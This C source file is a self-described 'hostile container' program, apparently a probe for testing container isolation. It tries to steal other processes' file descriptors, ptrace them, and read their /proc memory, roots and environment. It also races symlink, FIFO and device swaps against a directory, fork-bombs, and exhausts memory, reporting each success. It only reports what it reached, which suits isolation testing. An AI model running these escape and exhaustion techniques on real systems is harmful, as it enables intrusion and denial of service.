/* attack: the first process of a hostile container, root in it with the capabilities that every container gets. Static. It says on
 * stdout, a line each, what it tried and what it got. It goes on for SECONDS or until there is a file /stop.
 *
 *   hunt SECONDS        every process it can see, again and again: take its descriptors, trace it, read its memory, walk its root and
 *                       its open files. "tried PID", and "got HOW PID" for each success
 *   swap DIR SECONDS OUTSIDE   swaps each regular file of DIR for a symbolic link to OUTSIDE, a FIFO and a device, as fast as it can;
 *                       "opened fifo" when somebody has a FIFO open for reading; "swapped N"
 *   forks SECONDS       fork until the kernel refuses: "full N"
 *   eat MIB SECONDS     allocate and write: "eaten MIB"
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#define MAX_PID 4194304

static unsigned char seen[MAX_PID];

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static int going(double until)
{
	return now() < until && access("/stop", F_OK);
}

static void say(const char *what, const char *how, int pid)
{
	printf("%s %s %d\n", what, how, pid);
	fflush(stdout);
}

/* Opening these succeeds only where the kernel lets us look into the process. */
static int open_below(int pid, const char *name, int flags)
{
	char path[128];
	int fd;

	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	fd = open(path, flags);
	if (fd < 0)
		return 0;
	say("got", name, pid);
	close(fd);
	return 1;
}

/* The directory itself opens for the same user; what counts is what its links lead to. */
static void open_links(int pid, const char *name)
{
	char path[400];
	DIR *links;
	struct dirent *entry;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	links = opendir(path);
	while (links && (entry = readdir(links))) {
		snprintf(path, sizeof path, "/proc/%d/%s/%s", pid, name, entry->d_name);
		fd = entry->d_name[0] == '.' ? -1 : open(path, O_RDONLY | O_NONBLOCK);
		if (fd >= 0) {
			say("got", name, pid);
			close(fd);
			break;
		}
	}
	if (links)
		closedir(links);
}

static void try_descriptors(int pid)
{
	int pidfd = syscall(SYS_pidfd_open, pid, 0);

	for (int fd = 0; pidfd >= 0 && fd < 24; fd++) {
		int mine = syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		if (mine >= 0) {
			say("got", "fd", pid);
			close(mine);
			break;
		}
	}
	if (pidfd >= 0)
		close(pidfd);
}

static void try_trace(int pid)
{
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		say("got", "ptrace", pid);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

static void hunt(double until)
{
	int self = getpid();

	while (going(until)) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			int pid = atoi(entry->d_name);

			if (pid < 2 || pid == self || pid >= MAX_PID)
				continue;
			try_descriptors(pid);
			if (seen[pid]++ == 0) {
				say("tried", "all", pid);
				try_trace(pid);
				open_below(pid, "mem", O_RDONLY);
				open_below(pid, "root/", O_RDONLY | O_DIRECTORY);
				open_below(pid, "cwd/", O_RDONLY | O_DIRECTORY);
				open_links(pid, "fd");
				open_links(pid, "map_files");
				open_below(pid, "environ", O_RDONLY);
			}
			if (seen[pid] > 200)
				seen[pid] = 1;
		}
		if (proc)
			closedir(proc);
	}
}

static int exchange(const char *a, const char *b)
{
	return syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
}

static void swap(const char *dir, double until, const char *outside)
{
	char link[512], fifo[512], node[512];
	long swapped = 0;
	int reported = 0;

	snprintf(link, sizeof link, "%s/../link", dir);
	snprintf(fifo, sizeof fifo, "%s/../fifo", dir);
	snprintf(node, sizeof node, "%s/../node", dir);
	if (symlink(outside, link) || mkfifo(fifo, 0666) || mknod(node, S_IFCHR | 0666, makedev(1, 5)))
		perror("attack");
	while (going(until)) {
		DIR *files = opendir(dir);
		struct dirent *entry;

		while (files && (entry = readdir(files))) {
			const char *evil[] = { link, fifo, node };
			char path[800];
			int fd;

			if (entry->d_name[0] == '.')
				continue;
			snprintf(path, sizeof path, "%s/%s", dir, entry->d_name);
			for (int i = 0; i < 3; i++) {
				if (exchange(path, evil[i]))
					continue;
				swapped++;
				fd = open(path, O_WRONLY | O_NONBLOCK | O_NOFOLLOW);
				if (fd >= 0) {
					struct stat st;

					if (!fstat(fd, &st) && S_ISFIFO(st.st_mode) && !reported++)
						say("opened", "fifo", 0);
					close(fd);
				}
				exchange(path, evil[i]);
			}
		}
		if (files)
			closedir(files);
	}
	say("swapped", "files", swapped > 1000000 ? 1000000 : (int)swapped);
}

static void forks(double until)
{
	int n = 0;

	while (n < 10000) {
		int pid = fork();

		if (pid < 0)
			break;
		if (pid == 0) {
			pause();
			_exit(0);
		}
		n++;
	}
	say("full", "pids", n);
	while (going(until))
		usleep(20000);
}

static void eat(long mib, double until)
{
	char *at = mmap(NULL, mib << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	for (long i = 0; i < mib << 20; i += 4096)
		at[i] = 1;
	say("eaten", "mib", mib);
	while (going(until))
		for (long i = 0; i < mib << 20; i += 4096)
			at[i]++;
	say("alive", "mib", mib);
}

int main(int argc, char **argv)
{
	if (argc > 2 && !strcmp(argv[1], "hunt"))
		hunt(now() + atof(argv[2]));
	else if (argc > 4 && !strcmp(argv[1], "swap"))
		swap(argv[2], now() + atof(argv[3]), argv[4]);
	else if (argc > 2 && !strcmp(argv[1], "forks"))
		forks(now() + atof(argv[2]));
	else if (argc > 3 && !strcmp(argv[1], "eat"))
		eat(atol(argv[2]), now() + atof(argv[3]));
	else
		return 2;
	return 0;
}
